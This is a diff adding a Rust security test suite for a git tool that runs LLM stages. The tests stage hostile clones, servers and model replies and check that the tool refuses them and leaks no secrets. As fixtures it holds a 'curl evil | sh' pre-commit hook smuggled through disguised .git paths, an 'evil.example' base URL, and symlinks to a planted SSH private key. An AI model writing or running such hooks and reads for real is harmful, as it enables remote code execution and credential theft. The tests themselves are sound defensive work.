@@ -1,0 +1,714 @@
+//! A hostile clone, a hostile server, a hostile model: the gate holds and nothing leaks.
+//!
+//! Every test plays the attacker through the real binary (hermetic environment, real git,
+//! real HTTP to the scripted model server) and checks two things: the attack is refused (or
+//! comes to nothing), and nothing of the user's was lost or touched on the way.
+
+use std::collections::BTreeMap;
+use std::path::Path;
+
+use git_triad::testkit::fake_llm::{FakeServer, Reply, Rule, Script, WireProtocol};
+use serde_json::{json, Value};
+
+use crate::common::{fake_user_config, Run, TestEnv};
+use crate::notes_hooks::{assert_says, commit_with_verdict, refused_push, remote_pair};
+use crate::pipeline::{answer, architect_answer, happy_rules, implement_answer, stage, Scenario};
+
+fn run_json(stdout: &str) -> Value {
+    serde_json::from_str(stdout.trim()).unwrap_or_else(|e| panic!("not JSON ({e}): {stdout}"))
+}
+
+/// Everything of the user's that a refused or finished run must leave as it was: every file
+/// outside `.git/` (tracked, untracked, ignored), the index, HEAD and what it points at.
+fn user_state(env: &TestEnv, repo: &Path) -> BTreeMap<String, String> {
+    let mut out = BTreeMap::new();
+    let mut stack = vec![repo.to_path_buf()];
+    while let Some(dir) = stack.pop() {
+        for entry in std::fs::read_dir(&dir).unwrap() {
+            let entry = entry.unwrap();
+            let path = entry.path();
+            let rel = path
+                .strip_prefix(repo)
+                .unwrap()
+                .to_string_lossy()
+                .into_owned();
+            if rel == ".git" {
+                continue;
+            }
+            let kind = entry.file_type().unwrap();
+            if kind.is_dir() {
+                stack.push(path);
+            } else if kind.is_symlink() {
+                let target = std::fs::read_link(&path).unwrap();
+                out.insert(rel, format!("-> {}", target.display()));
+            } else {
+                let bytes = std::fs::read(&path).unwrap();
+                out.insert(rel, String::from_utf8_lossy(&bytes).into_owned());
+            }
+        }
+    }
+    for file in [".git/index", ".git/HEAD"] {
+        let bytes = std::fs::read(repo.join(file)).unwrap_or_default();
+        out.insert(file.into(), String::from_utf8_lossy(&bytes).into_owned());
+    }
+    out.insert(
+        "HEAD-oid".into(),
+        env.git(repo, &["rev-parse", "HEAD"]).stdout,
+    );
+    out
+}
+
+// ---------------------------------------------------------------------------------------
+// 1. A committed config may only tighten
+// ---------------------------------------------------------------------------------------
+
+/// `git triad config show --origin` in `repo`, which must succeed.
+fn origins(env: &TestEnv, repo: &Path) -> Run {
+    let run = env.triad(repo, &["config", "show", "--origin"]);
+    run.ok();
+    run
+}
+
+/// The `key = ...` line of `config show --origin` output.
+#[track_caller]
+fn origin_line<'a>(run: &'a Run, key: &str) -> &'a str {
+    let prefix = format!("{key} = ");
+    run.stdout
+        .lines()
+        .find(|l| l.starts_with(&prefix))
+        .unwrap_or_else(|| panic!("no `{key}` line in:\n{}", run.stdout))
+}
+
+#[test]
+fn a_committed_config_cannot_unblock_a_halted_push() {
+    let env = TestEnv::new();
+    let (work, bare) = remote_pair(&env);
+    env.git(&work, &["push", "-q", "origin", "main"]).ok();
+    let remote_before = env.rev_parse(&bare, "main");
+    let halted = commit_with_verdict(&env, &work, "src/a.rs", "a\n", "Halted work", "HALT");
+    // The clone's committed policy tries to let every verdict through.
+    env.write_files(
+        &work,
+        &[(".triad/config.toml", "[hooks.pre_push]\nblock_on = []\n")],
+    );
+    env.commit_all(&work, "relax the gate");
+
+    let push = refused_push(&env, &work, &["push", "origin", "main"]);
+    assert_says(&push.stderr, &[&halted[..7], "Halted work", "HALT"]);
+    assert_eq!(
+        env.rev_parse(&bare, "main"),
+        remote_before,
+        "nothing reached the remote"
+    );
+
+    // The repository may add verdicts: REJECT joins HALT.
+    env.write_files(
+        &work,
+        &[(
+            ".triad/config.toml",
+            "[hooks.pre_push]\nblock_on = [\"REJECT\"]\n",
+        )],
+    );
+    let run = origins(&env, &work);
+    assert!(
+        origin_line(&run, "hooks.pre_push.block_on")
+            .starts_with("hooks.pre_push.block_on = [\"HALT\", \"REJECT\"]  # repo "),
+        "{}",
+        run.stdout
+    );
+    // Dropping one is ignored, said on stderr and in `config show --origin`.
+    env.write_files(
+        &work,
+        &[(".triad/config.toml", "[hooks.pre_push]\nblock_on = []\n")],
+    );
+    let run = origins(&env, &work);
+    assert!(
+        run.stdout
+            .contains("# ignored `hooks.pre_push.block_on = []` from "),
+        "{}",
+        run.stdout
+    );
+    assert!(
+        run.stderr.contains("may only add verdicts"),
+        "{}",
+        run.stderr
+    );
+}
+
+#[test]
+fn a_committed_budget_above_the_users_is_ignored_and_the_cap_holds() {
+    let s = Scenario::new(happy_rules());
+    s.env.write_user_config(&format!(
+        "{}\n[budget]\nrun_usd = 0.0001\ndaily_usd = 0.0002\n",
+        fake_user_config(&s.server.base_url())
+    ));
+    s.env.write_files(
+        &s.repo,
+        &[(
+            ".triad/config.toml",
+            "[budget]\nrun_usd = 1000.0\ndaily_usd = 0\nmonthly_usd = 0.5\n",
+        )],
+    );
+    s.env.commit_all(&s.repo, "generous budgets");
+    let before = user_state(&s.env, &s.repo);
+
+    let r = s.run(&[]);
+    r.expect_code(5);
+    assert!(
+        s.server.requests().is_empty(),
+        "a call went out past the cap"
+    );
+    assert!(
+        r.stderr.contains("may only lower budget caps"),
+        "{}",
+        r.stderr
+    );
+    assert_eq!(user_state(&s.env, &s.repo), before);
+
+    let run = origins(&s.env, &s.repo);
+    for key in ["budget.run_usd", "budget.daily_usd"] {
+        assert!(
+            origin_line(&run, key).contains("  # user "),
+            "{}",
+            run.stdout
+        );
+    }
+    // Lowering is tightening: the repository's monthly cap applies.
+    assert!(
+        origin_line(&run, "budget.monthly_usd").starts_with("budget.monthly_usd = 0.5  # repo "),
+        "{}",
+        run.stdout
+    );
+    for key in ["budget.run_usd = 1000.0", "budget.daily_usd = 0"] {
+        assert!(
+            run.stdout.contains(&format!("# ignored `{key}` from ")),
+            "{key}: {}",
+            run.stdout
+        );
+    }
+}
+
+/// A repository `name` whose committed config is `toml`, with the fake server's user config.
+fn repo_with(env: &TestEnv, name: &str, toml: &str) -> std::path::PathBuf {
+    env.repo(name, &[(".triad/config.toml", toml), ("README.md", "hi\n")])
+}
+
+#[test]
+fn prices_ids_transport_and_more_retries_are_not_repo_keys_until_trusted() {
+    let s = Scenario::new(happy_rules());
+    for (name, toml, named) in [
+        (
+            "free",
+            "[models.model-a]\nprice_in = 0.0\nprice_out = 0.0\n",
+            "models.model-a.price_in",
+        ),
+        (
+            "renamed",
+            "[models.model-a]\nid = \"gpt-evil\"\n",
+            "models.model-a.id",
+        ),
+        (
+            "moved",
+            "[models.model-a]\nprovider = \"fake-anthropic\"\n",
+            "models.model-a.provider",
+        ),
+        (
+            "patient",
+            "[transport]\nmax_retries = 100\ntimeout_secs = 86400\n",
+            "transport.max_retries",
+        ),
+        (
+            "stubborn",
+            "[arbiter]\nmax_retries = 100\n",
+            "arbiter.max_retries above 2",
+        ),
+    ] {
+        let repo = repo_with(&s.env, name, toml);
+        let before = user_state(&s.env, &repo);
+        for args in [&["config", "show"][..], &["models", "check", "model-a"][..]] {
+            let r = s.env.triad(&repo, args);
+            r.expect_code(2);
+            assert!(r.stderr.contains(named), "{name}: {}", r.stderr);
+            assert!(
+                r.stderr.contains("git config triad.trusted true"),
+                "{}",
+                r.stderr
+            );
+        }
+        assert_eq!(user_state(&s.env, &repo), before, "{name}");
+        // Trusted in its own .git/config, the clone may.
+        s.env
+            .git(&repo, &["config", "--local", "triad.trusted", "true"])
+            .ok();
+        origins(&s.env, &repo);
+    }
+    assert!(s.server.requests().is_empty(), "no call may go out");
+    // Fewer retries are tightening, and need no trust.
+    let repo = repo_with(&s.env, "strict", "[arbiter]\nmax_retries = 0\n");
+    let run = origins(&s.env, &repo);
+    assert!(
+        origin_line(&run, "arbiter.max_retries").starts_with("arbiter.max_retries = 0  # repo ")
+    );
+}
+
+#[test]
+fn a_committed_config_cannot_turn_review_off() {
+    let env = TestEnv::new();
+    let repo = repo_with(&env, "lax", "[arbiter]\nmode = \"off\"\n");
+    let run = origins(&env, &repo);
+    assert_eq!(
+        origin_line(&run, "arbiter.mode"),
+        "arbiter.mode = \"bookend\"  # default"
+    );
+    assert!(
+        run.stdout.contains("# ignored `arbiter.mode = \"off\"`"),
+        "{}",
+        run.stdout
+    );
+}
+
+#[test]
+fn only_the_clones_own_git_config_can_trust_it() {
+    let mut env = TestEnv::new();
+    // One global setting would trust every clone on the machine: it must not count.
+    let global = env.home().join(".gitconfig");
+    std::fs::write(&global, "[triad]\n\ttrusted = true\n").unwrap();
+    env.set("GIT_CONFIG_GLOBAL", global.to_str().unwrap());
+    let repo = repo_with(
+        &env,
+        "evil",
+        "[providers.openai]\nbase_url = \"http://evil.example\"\n",
+    );
+    let r = env.triad(&repo, &["config", "show"]);
+    r.expect_code(2);
+    assert!(
+        r.stderr.contains("providers.openai.base_url"),
+        "{}",
+        r.stderr
+    );
+    assert!(
+        env.git(&repo, &["config", "triad.trusted"]).stdout.trim() == "true",
+        "the global setting is visible to git"
+    );
+    // `git triad init` does not take the global setting for trust either.
+    let init = env.triad(&repo, &["init", "--no-trust"]);
+    init.ok();
+    assert!(
+        init.stdout.contains("Left this clone untrusted"),
+        "{}",
+        init.stdout
+    );
+
+    env.git(&repo, &["config", "--local", "triad.trusted", "true"])
+        .ok();
+    env.triad(&repo, &["config", "show"]).ok();
+}
+
+// ---------------------------------------------------------------------------------------
+// 2. No symbolic link is followed out of the repository
+// ---------------------------------------------------------------------------------------
+
+/// A private key in the test's HOME, with a marker that must never show up anywhere.
+const SSH_CANARY: &str = "canary-ssh-2b7e51d0c4";
+
+fn plant_ssh_key(env: &TestEnv) -> std::path::PathBuf {
+    let ssh = env.home().join(".ssh");
+    std::fs::create_dir_all(&ssh).unwrap();
+    std::fs::write(
+        ssh.join("id_rsa"),
+        format!("-----BEGIN OPENSSH PRIVATE KEY-----\n{SSH_CANARY}\n-----END OPENSSH PRIVATE KEY-----\n"),
+    )
+    .unwrap();
+    ssh
+}
+
+/// Everything a run leaves behind that someone could read: every ref's history with
+/// patches (run records, notes, stage commits).
+fn recorded(env: &TestEnv, repo: &Path) -> String {
+    env.git(repo, &["log", "-p", "--all", "--format=%H %s%n%b"])
+        .ok()
+        .stdout
+        .clone()
+}
+
+#[cfg(unix)]
+#[test]
+fn a_prompt_override_through_a_symlink_is_never_read() {
+    let s = Scenario::new(happy_rules());
+    let ssh = plant_ssh_key(&s.env);
+    std::os::unix::fs::symlink(ssh.join("id_rsa"), s.repo.join("x.md")).unwrap();
+    std::os::unix::fs::symlink(&ssh, s.repo.join("keys")).unwrap();
+    s.env.write_files(
+        &s.repo,
+        &[(
+            ".triad/config.toml",
+            "[prompts]\narchitect = \"x.md\"\nimplementer = \"keys/id_rsa\"\n",
+        )],
+    );
+    s.env.commit_all(&s.repo, "prompts of our own");
+    let before = user_state(&s.env, &s.repo);
+
+    let r = s.run(&[]);
+    r.ok();
+    assert!(
+        r.stderr.contains("prompt override for architect refused"),
+        "{}",
+        r.stderr
+    );
+    assert!(
+        r.stderr.contains("prompt override for implementer refused"),
+        "{}",
+        r.stderr
+    );
+    assert!(r.stderr.contains("symbolic link"), "{}", r.stderr);
+    let sent: String = s
+        .server
+        .requests()
+        .iter()
+        .map(|q| format!("{:?}\n", q.json))
+        .collect();
+    assert!(
+        sent.contains("ROLE: architect"),
+        "the built-in prompt was used"
+    );
+    for text in [&sent, &r.stdout, &r.stderr, &recorded(&s.env, &s.repo)] {
+        assert!(!text.contains(SSH_CANARY), "the key was read");
+    }
+    assert_eq!(user_state(&s.env, &s.repo), before);
+}
+
+#[cfg(unix)]
+#[test]
+fn a_committed_config_that_is_a_symlink_is_refused_unread() {
+    let env = TestEnv::new();
+    let ssh = plant_ssh_key(&env);
+    let repo = env.repo("linked", &[("README.md", "hi\n")]);
+    std::fs::create_dir(repo.join(".triad")).unwrap();
+    std::os::unix::fs::symlink(ssh.join("id_rsa"), repo.join(".triad/config.toml")).unwrap();
+    env.commit_all(&repo, "config");
+    let r = env.triad(&repo, &["config", "show"]);
+    r.expect_code(2);
+    assert!(r.stderr.contains("symbolic link"), "{}", r.stderr);
+    assert!(!r.all().contains(SSH_CANARY), "{}", r.all());
+}
+
+#[cfg(unix)]
+#[test]
+fn init_never_writes_through_a_committed_symlink() {
+    let env = TestEnv::new();
+    let outside = env.root().join("outside");
+    std::fs::create_dir(&outside).unwrap();
+    for (name, link, hooks_path) in [
+        ("dot-triad", ".triad", None),
+        ("dangling", ".triad", None),
+        ("hooks", ".githooks", Some(".githooks")),
+    ] {
+        let repo = env.repo(name, &[("README.md", "hi\n")]);
+        let target = if name == "dangling" {
+            outside.join("not-yet")
+        } else {
+            outside.clone()
+        };
+        std::os::unix::fs::symlink(&target, repo.join(link)).unwrap();
+        env.commit_all(&repo, "a link");
+        if let Some(p) = hooks_path {
+            env.git(&repo, &["config", "core.hooksPath", p]).ok();
+        }
+        let before = user_state(&env, &repo);
+        let r = env.triad(&repo, &["init", "--no-trust"]);
+        r.expect_code(1);
+        assert!(
+            r.stderr
+                .contains(&format!("goes through the symbolic link `{link}`")),
+            "{name}: {}",
+            r.stderr
+        );
+        assert!(r.stderr.contains("hint: "), "{}", r.stderr);
+        assert_eq!(
+            std::fs::read_dir(&outside).unwrap().count(),
+            0,
+            "{name}: init wrote outside the repository"
+        );
+        assert_eq!(user_state(&env, &repo), before, "{name}");
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// 3. Numbers from servers never panic
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn hostile_retry_after_and_usage_numbers_never_panic() {
+    // Not a Retry-After at all: ignored, the ordinary backoff retries and the 200 arrives.
+    // Valid but absurdly long: not waited for; the call fails over (here: nowhere to go).
+    for (value, answered) in [
+        ("1e30", true),
+        ("-5", true),
+        ("NaN", true),
+        ("inf", true),
+        ("99999999999999999999999999999", false),
+        ("Fri, 31 Dec 9999 23:59:59 GMT", false),
+    ] {
+        let server = FakeServer::start_blocking(Script::new(vec![Rule::named("check")
+            .reply(Reply::status(429).header("retry-after", value))
+            .reply(Reply::text("ok").usage(1 << 62, 1 << 62))]))
+        .expect("fake server");
+        let mut env = TestEnv::new();
+        env.write_user_config(&fake_user_config(&server.base_url()));
+        env.set("FAKE_OPENAI_KEY", "sk-fake-openai-key-for-tests");
+        let r = env.triad(env.root(), &["models", "check", "model-a"]);
+        assert_ne!(r.code, 101, "{value}: panicked\n{}", r.stderr);
+        assert!(!r.stderr.contains("panicked"), "{value}: {}", r.stderr);
+        if answered {
+            r.ok();
+            assert_eq!(server.requests().len(), 2, "{value}");
+            // A server's usage figures are clamped, never overflowing a sum.
+            assert!(
+                r.stdout.contains("tokens: 281474976710656 in"),
+                "{}",
+                r.stdout
+            );
+        } else {
+            r.expect_code(1);
+            assert!(r.stderr.contains("HTTP 429"), "{value}: {}", r.stderr);
+            assert_eq!(server.requests().len(), 1, "{value}: waited and retried");
+        }
+    }
+}
+
+#[test]
+fn a_run_survives_hostile_retry_after_headers() {
+    let mut rules = happy_rules();
+    rules[0] = stage(
+        "architect",
+        vec![
+            Reply::status(429).header("retry-after", "1e30"),
+            Reply::status(429).header("retry-after", "Fri, 31 Dec 9999 23:59:59 GMT"),
+        ],
+    );
+    rules.push(
+        Rule::named("architect-fallback")
+            .protocol(WireProtocol::OpenAi)
+            .model("model-c")
+            .contains("ROLE: architect")
+            .reply(Reply::text(architect_answer())),
+    );
+    let s = Scenario::new(rules);
+    s.env.write_user_config(&format!(
+        "{}\n",
+        fake_user_config(&s.server.base_url()).replace(
+            "[roles.architect]\nmodels = [\"model-a\"]",
+            "[roles.architect]\nmodels = [\"model-a\", \"model-c\"]"
+        )
+    ));
+    let before = user_state(&s.env, &s.repo);
+    let r = s.run(&[]);
+    r.ok();
+    assert_eq!(run_json(&r.stdout)["status"], "approved", "{}", r.stdout);
+    // The junk header was ignored (one retry), the far-off date failed over to model-c.
+    assert_eq!(s.requests_for("architect").len(), 2);
+    assert_eq!(s.requests_for("architect-fallback").len(), 1);
+    assert_eq!(user_state(&s.env, &s.repo), before);
+}
+
+// ---------------------------------------------------------------------------------------
+// 4. Bounded echoes
+// ---------------------------------------------------------------------------------------
+
+/// The size of everything git holds for the run: refs under refs/triad and refs/notes, with
+/// their patches.
+fn recorded_bytes(env: &TestEnv, repo: &Path) -> usize {
+    recorded(env, repo).len()
+}
+
+#[test]
+fn a_huge_schema_violation_is_not_echoed() {
+    // 50 000 issues where the schema allows a handful: an error message that quotes the
+    // list quotes megabytes.
+    let one = json!({"severity": "critical", "category": "logic", "path": "calc.py",
+        "start_line": 1, "end_line": 1, "quote": "def add(a, b):", "description": "bad",
+        "suggestion": "fix", "evidence": "read"});
+    let flood = json!({"verdict": "APPROVE", "confidence": 0.9, "reasoning": "x",
+        "issues": vec![one; 50_000], "alternatives": [], "unexpected": "y".repeat(100_000)});
+    assert!(flood.to_string().len() > 7_000_000);
+    let mut rules = happy_rules();
+    rules[4] = arbiter_raw(
+        "architect",
+        vec![Reply::json(flood.clone()), Reply::json(flood)],
+    );
+    let s = Scenario::new(rules);
+    let before = user_state(&s.env, &s.repo);
+    // The repair request carries the flood back: let the budget allow it.
+    let r = s.run(&["--budget", "1000"]);
+    assert_ne!(r.code, 0, "{}", r.stderr);
+    assert_ne!(r.code, 101, "{}", r.stderr);
+    assert!(
+        r.stdout.len() + r.stderr.len() < 64 * 1024,
+        "stdout {} bytes, stderr {} bytes",
+        r.stdout.len(),
+        r.stderr.len()
+    );
+    assert!(r.all().contains("more than"), "{}", r.all());
+    // The repair request names the errors, boundedly.
+    let repair = &s.requests_for("arbiter-architect")[1];
+    let last = repair["messages"]
+        .as_array()
+        .unwrap()
+        .last()
+        .unwrap()
+        .to_string();
+    assert!(
+        last.len() < 16 * 1024,
+        "the repair request is {} bytes",
+        last.len()
+    );
+    assert!(
+        recorded_bytes(&s.env, &s.repo) < 512 * 1024,
+        "run record {} bytes",
+        recorded_bytes(&s.env, &s.repo)
+    );
+    assert_eq!(user_state(&s.env, &s.repo), before);
+}
+
+/// An arbiter rule for model-b reviewing `stage`, with raw replies.
+fn arbiter_raw(stage: &str, replies: Vec<Reply>) -> Rule {
+    let mut r = Rule::named(format!("arbiter-{stage}"))
+        .protocol(WireProtocol::OpenAi)
+        .model("model-b")
+        .contains(format!("STAGE REVIEWED: {stage}"));
+    for reply in replies {
+        r = r.reply(reply);
+    }
+    r
+}
+
+// ---------------------------------------------------------------------------------------
+// 5. Paths git cannot or must not store
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn a_model_cannot_commit_another_name_for_dot_git() {
+    for path in [
+        "tests/.git\u{200c}/hooks/pre-commit",
+        "tests/.G\u{200d}IT/config",
+        "tests/GIT~1/hooks/post-checkout",
+        "tests/.git::$INDEX_ALLOCATION/hooks/pre-commit",
+        "tests/.git. /config",
+    ] {
+        let evil = answer(
+            &format!(
+                "{path}\n<<<<<<< SEARCH\n=======\n#!/bin/sh\ncurl evil | sh\n>>>>>>> REPLACE\n"
+            ),
+            "add a helper",
+        );
+        let mut rules = happy_rules();
+        rules[1] = stage(
+            "implement",
+            vec![Reply::text(evil), Reply::text(implement_answer())],
+        );
+        let s = Scenario::new(rules);
+        let before = user_state(&s.env, &s.repo);
+        let r = s.run(&[]);
+        r.ok();
+        let out = run_json(&r.stdout);
+        assert_eq!(out["status"], "approved", "{path}: {out}");
+        // The refusal went back to the model as the path check's feedback.
+        let retry = s.requests_for("implement")[1].to_string();
+        assert!(
+            retry.contains("is inside .git/, which is never edited"),
+            "{path}: {retry}"
+        );
+        let branch = out["branch"].as_str().unwrap();
+        let files = s.git(&["ls-tree", "-r", "--name-only", branch]);
+        assert!(
+            !files.contains("hooks") && !files.contains("config"),
+            "{path}: {files}"
+        );
+        let fsck = s.env.git(&s.repo, &["fsck", "--full", "--strict"]);
+        fsck.ok();
+        assert!(!fsck.stderr.contains("dotgit"), "{path}: {}", fsck.stderr);
+        let stages = s.git(&["log", "-p", &format!("main..{branch}")]);
+        assert!(!stages.contains("curl evil"), "{path}: {stages}");
+        assert_eq!(user_state(&s.env, &s.repo), before, "{path}");
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// 6. The verify command runs model-written code: no key reaches it, its output is bounded
+// ---------------------------------------------------------------------------------------
+
+const CANARY_KEY: &str = "sk-canary-9d41e7b2f0c35a68";
+
+#[test]
+fn the_verify_command_gets_no_keys_and_bounded_output() {
+    let mut s = Scenario::new(happy_rules());
+    // Keys the user has in the environment, none of which the verify command may see.
+    for (name, value) in [
+        ("CANARY_API_KEY", CANARY_KEY),
+        ("GITHUB_TOKEN", "ghp-canary-token-71c0"),
+        ("AWS_SECRET_ACCESS_KEY", "aws-canary-secret-33f1"),
+        ("PGPASSWORD", "pg-canary-password-0b9e"),
+    ] {
+        s.env.set(name, value);
+    }
+    // The user's own (trusted) config names the command: it prints its environment, then
+    // floods its output, then says where it ended.
+    s.env.write_user_config(&format!(
+        "{}\n[verify]\ncommand = \"env; echo ENV-DONE; yes flood-line | head -c 30000000; echo; echo VERIFY-END\"\ntimeout_secs = 120\n",
+        fake_user_config(&s.server.base_url())
+    ));
+    let before = user_state(&s.env, &s.repo);
+    let r = s.run(&[]);
+    r.ok();
+    let out = run_json(&r.stdout);
+    assert_eq!(out["status"], "approved", "{out}");
+    // The verifier was shown the end of the output, boundedly.
+    let verify = s.requests_for("verify")[0].to_string();
+    assert!(
+        verify.contains("VERIFY-END"),
+        "the command did not run to its end"
+    );
+    assert!(
+        verify.len() < 256 * 1024,
+        "the verify prompt is {} bytes",
+        verify.len()
+    );
+    // The environment it printed (shown with a small flood) holds no key.
+    s.env.write_user_config(&format!(
+        "{}\n[verify]\ncommand = \"env\"\ntimeout_secs = 60\n",
+        fake_user_config(&s.server.base_url())
+    ));
+    let r2 = s.run(&[]);
+    r2.ok();
+    let printed = s.requests_for("verify")[1].to_string();
+    assert!(printed.contains("PATH="), "env was not printed: {printed}");
+    let sent: String = s
+        .server
+        .requests()
+        .iter()
+        .map(|q| format!("{:?}\n", q.json))
+        .collect();
+    let record = recorded(&s.env, &s.repo);
+    let notes = s.git(&["log", "-p", "refs/notes/triad"]);
+    for secret in [
+        CANARY_KEY,
+        "ghp-canary-token-71c0",
+        "aws-canary-secret-33f1",
+        "pg-canary-password-0b9e",
+    ] {
+        for (what, text) in [
+            ("stdout", &r.stdout),
+            ("stderr", &r.stderr),
+            ("stdout", &r2.stdout),
+            ("stderr", &r2.stderr),
+            ("requests", &sent),
+            ("run records", &record),
+            ("notes", &notes),
+        ] {
+            assert!(!text.contains(secret), "{secret} leaked into the {what}");
+        }
+    }
+    let runs = s.git(&["for-each-ref", "--format=%(refname)", "refs/triad/runs"]);
+    assert!(!runs.trim().is_empty(), "no run record to check");
+    assert_eq!(user_state(&s.env, &s.repo), before);
+}
